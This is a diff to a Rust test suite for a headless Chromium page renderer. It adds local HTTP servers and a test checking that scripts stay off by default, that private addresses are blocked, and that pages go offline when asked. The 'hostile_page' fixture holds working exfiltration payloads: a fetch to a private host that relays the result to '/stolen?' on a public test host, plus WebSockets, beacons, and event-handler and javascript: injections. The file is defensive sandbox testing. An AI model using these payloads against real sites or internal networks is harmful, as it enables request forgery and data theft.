@@ -3,9 +3,13 @@
 use super::*;
 use crate::files::Files;
 use crate::test_browser;
+use std::io::{BufRead, BufReader, Write};
+use std::net::TcpListener;
+use std::sync::{Arc, Mutex};
 use unchaff_dom::Page;
 use unchaff_segment::layout::{BoxKind, Color, Layout, RenderedBox};
 use unchaff_segment::rect::Rect;
+use unchaff_source::test_network;
 
 fn browser() -> Option<Chromium> {
     let program = test_browser::or_skip();
@@ -126,8 +130,14 @@ fn a_browser_killed_in_mid_page_is_tried_once_more_and_the_next_page_has_a_new_o
         }
     });
     let time_limit = Duration::from_secs(60);
-    let mut browser =
-        Chromium::new(Options { program: Some(program), scripts: true, network: true, time_limit, ..Options::default() });
+    let mut browser = Chromium::new(Options {
+        program: Some(program),
+        scripts: true,
+        network: true,
+        allow_private: true,
+        time_limit,
+        ..Options::default()
+    });
     let page = unchaff_dom::Parser::new().url(&address).parse("<script src=slow.js></script><p>text");
     let error = render(&mut browser, &page).unwrap_err();
     assert!(matches!(error, RenderError::Ended { .. }), "{error}");
@@ -135,6 +145,131 @@ fn a_browser_killed_in_mid_page_is_tried_once_more_and_the_next_page_has_a_new_o
     let page = Page::parse("<p>text");
     assert_eq!(texts(&page, &render(&mut browser, &page).unwrap()).len(), 1);
 }
+
+/// A server on an address of the test network that answers every path the same way, and notes what it is asked: host and path.
+fn serve(address: &str, asked: &Arc<Mutex<Vec<String>>>, answer: fn(&str) -> (&'static str, Vec<u8>)) -> String {
+    let server = TcpListener::bind((address, 0)).unwrap();
+    let own = server.local_addr().unwrap().to_string();
+    let (asked, name) = (Arc::clone(asked), own.clone());
+    // It ends with the test, which is a process of its own.
+    std::thread::spawn(move || {
+        for stream in server.incoming() {
+            let Ok(mut stream) = stream else { continue };
+            let mut line = String::new();
+            let mut reader = BufReader::new(stream.try_clone().unwrap());
+            let _ = reader.read_line(&mut line);
+            let mut rest = String::new();
+            while reader.read_line(&mut rest).is_ok_and(|length| length > 2) {}
+            let mut words = line.split(' ');
+            let (method, path) = (words.next().unwrap_or_default(), words.next().unwrap_or_default());
+            asked.lock().unwrap().push(format!("{method} {name}{path}"));
+            let (kind, body) = answer(path);
+            let (status, more) = if path == "/away" { ("302 Found", kind) } else { ("200 OK", "") };
+            let head = format!(
+                "HTTP/1.1 {status}\r\nConnection: close\r\nAccess-Control-Allow-Origin: *\r\nContent-Length: {}\r\n{}: {kind}\r\n\r\n",
+                body.len(),
+                if more.is_empty() { "Content-Type" } else { "Location" },
+            );
+            let _ = stream.write_all(head.as_bytes()).and_then(|()| stream.write_all(&body));
+        }
+    });
+    own
+}
+
+const BLUE: &str =
+    "<svg xmlns='http://www.w3.org/2000/svg' width='40' height='40'><rect width='40' height='40' fill='#3366cc'/></svg>";
+
+/// Every way to run a script that a page has, each of which asks this machine for something, besides plain references to it.
+fn hostile_page(private: &str, public: &str) -> String {
+    let run = |from: &str| {
+        format!(
+            "fetch('http://{private}/{from}-fetch').then(a=>a.text()).then(t=>{{new Image().src='http://{public}/stolen?'+t}});\
+             new Image().src='http://{public}/{from}-ran';var s=new WebSocket('ws://{private}/{from}-socket');\
+             navigator.sendBeacon('http://{public}/{from}-beacon','x');document.title='ran'"
+        )
+    };
+    let escaped = |text: String| text.replace('&', "&amp;").replace('"', "&quot;");
+    let script = |from: &str| format!("<script>{}</script>", run(from));
+    format!(
+        "<!doctype html><title>own</title><link rel=stylesheet href=http://{public}/style.css>
+        <link rel=stylesheet href=http://{private}/style.css><link rel=preconnect href=http://{private}/>
+        <link rel=prefetch href=http://{private}/prefetch><link rel=dns-prefetch href=http://{private}/>
+        <style>@font-face{{font-family:x;src:url(http://{public}/font.woff2)}}h1{{font-family:x;background:url(http://{private}/background.png)}}</style>
+        <meta http-equiv=refresh content='0;url=http://{private}/refresh'>{main}
+        <iframe sandbox=allow-scripts srcdoc=\"{srcdoc}\"></iframe>
+        <iframe srcdoc=\"{plain}\"></iframe>
+        <iframe src=\"data:text/html,{data}\"></iframe>
+        <iframe src=\"javascript:{address}\"></iframe><iframe src=http://{private}/frame></iframe><iframe src=http://{public}/frame></iframe>
+        <object data=http://{private}/object></object><embed src=http://{private}/embed><video src=http://{private}/video autoplay></video>
+        <img src=http://{public}/blue.svg id=seen><img src=http://{private}/image.svg><img src=http://{public}/away>
+        <img src=missing onerror=\"{event}\"><body onload=\"{load}\"><svg><script>{svg}</script></svg>
+        <a href='javascript:0' ping=http://{private}/ping>a</a><p>text</p><h1>heading</h1>",
+        main = script("main"),
+        srcdoc = escaped(script("sandbox")),
+        plain = escaped(script("srcdoc")),
+        data = escaped(script("data").replace('#', "%23")),
+        address = escaped(run("address")),
+        event = escaped(run("event")),
+        load = escaped(run("load")),
+        svg = run("svg"),
+    )
+}
+
+#[test]
+fn without_scripts_nothing_runs_and_only_what_is_public_is_asked_for_the_looks_of_a_page() {
+    if !test_network::is_inside(
+        "chromium::tests::without_scripts_nothing_runs_and_only_what_is_public_is_asked_for_the_looks_of_a_page",
+    ) {
+        return;
+    }
+    let Some(_) = test_browser::or_skip() else { return };
+    let asked: Arc<Mutex<Vec<String>>> = Arc::default();
+    let private = serve("127.0.0.1", &asked, |_| ("text/css", b"p{position:absolute;left:999px}".to_vec()));
+    let redirect: &'static str = Box::leak(format!("http://{private}/redirected").into_boxed_str());
+    AWAY.set(redirect).unwrap();
+    let public = serve(test_network::PUBLIC, &asked, |path| match path {
+        "/style.css" => ("text/css", b"p{position:absolute;left:123px}".to_vec()),
+        "/away" => (AWAY.get().unwrap(), Vec::new()),
+        _ => ("image/svg+xml", BLUE.as_bytes().to_vec()),
+    });
+    let page = unchaff_dom::Parser::new().url("http://www.example.org/").parse(hostile_page(&private, &public));
+    let time_limit = Duration::from_secs(60);
+    let mut browser = Chromium::new(Options { network: true, time_limit, ..Options::default() });
+    let layout = render(&mut browser, &page).unwrap();
+    // Late requests would come by now.
+    std::thread::sleep(Duration::from_secs(1));
+    let mut seen: Vec<String> = asked.lock().unwrap().drain(..).collect();
+    seen.sort();
+    seen.dedup();
+    let expected = ["away", "blue.svg", "font.woff2", "style.css"].map(|path| format!("GET {public}/{path}"));
+    assert_eq!(seen, expected);
+    assert_eq!(texts(&page, &layout).iter().find(|(text, _)| text == "text").unwrap().1.left, 123);
+    assert_eq!(first(&page, &layout, "img").color, Some(Color([0x33, 0x66, 0xcc])), "an image of another host can be read by us");
+
+    // Private ones by a switch, and still nothing runs.
+    let mut browser = Chromium::new(Options { network: true, allow_private: true, time_limit, ..Options::default() });
+    render(&mut browser, &page).unwrap();
+    std::thread::sleep(Duration::from_secs(1));
+    let seen: Vec<String> = asked.lock().unwrap().drain(..).collect();
+    assert!(seen.contains(&format!("GET {private}/image.svg")), "{seen:?}");
+    let ran = ["-ran", "-fetch", "-socket", "-beacon", "stolen", "frame", "object", "embed", "video", "ping", "refresh"];
+    assert!(seen.iter().all(|asked| ran.iter().all(|word| !asked.contains(word))), "{seen:?}");
+
+    // Without the network nothing at all.
+    let mut browser = Chromium::new(Options { time_limit, ..Options::default() });
+    render(&mut browser, &page).unwrap();
+    assert_eq!(asked.lock().unwrap().len(), 0);
+
+    // With scripts they run, but reach what is public, by GET, and nothing else.
+    let mut browser = Chromium::new(Options { network: true, scripts: true, time_limit, ..Options::default() });
+    render(&mut browser, &page).unwrap();
+    std::thread::sleep(Duration::from_secs(1));
+    let seen: Vec<String> = asked.lock().unwrap().drain(..).collect();
+    assert!(seen.contains(&format!("GET {public}/main-ran")), "{seen:?}");
+    assert!(seen.iter().all(|asked| asked.starts_with("GET ") && !asked.contains(&private)), "{seen:?}");
+}
+
+static AWAY: std::sync::OnceLock<&'static str> = std::sync::OnceLock::new();
 
 #[test]
 fn odd_pages_are_rendered() {
